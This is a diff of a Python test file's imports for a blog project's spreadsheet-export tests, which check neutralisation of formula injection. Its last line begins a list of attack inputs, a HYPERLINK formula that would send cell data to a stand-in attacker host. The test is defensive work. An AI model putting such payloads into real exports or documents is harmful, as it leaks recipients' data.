@@ -10,11 +10,12 @@ from hypothesis import given
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
-from blog.models import ContactSubmission, Registration, RegistrationField
+from blog.contact.models import ContactSubmission
+from blog.events.models import Registration, RegistrationField
 from mrblogg.spreadsheets import FORMULA_STARTS, neutralise_formula
 from tests.factories import make_contact_page, make_event, make_registration_form
-from tests.subscriptions.factory import make_subscriber
 from tests.staff import give_totp
+from tests.subscriptions.factory import make_subscriber
 
 ATTACKS = [
     '=HYPERLINK("https://evil.example/?d="&A2,"Klicka här")',
